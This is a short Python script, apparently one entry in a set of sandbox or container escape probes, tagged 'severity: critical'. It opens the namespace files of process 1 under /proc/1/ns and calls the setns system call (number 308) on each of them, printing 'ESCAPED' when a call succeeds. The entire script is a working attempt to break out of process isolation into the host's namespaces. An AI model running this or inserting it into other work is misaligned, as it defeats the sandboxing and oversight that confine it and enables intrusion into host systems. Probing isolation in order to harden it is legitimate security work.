#: title: setns into pid 1's namespaces
#: breaks: leaked namespace files
#: severity: critical
#: arch: x86_64
#: status: ok
import ctypes, os
L = ctypes.CDLL(None, use_errno=True)
S = L.syscall
S.restype = ctypes.c_long
for n in ("user", "mnt", "net", "pid", "uts", "ipc", "cgroup"):
    try: fd = os.open(f"/proc/1/ns/{n}", 0)
    except OSError as e: print(n, e.errno); continue
    r = S(308, fd, 0); print(n, "ESCAPED" if r == 0 else ctypes.get_errno())
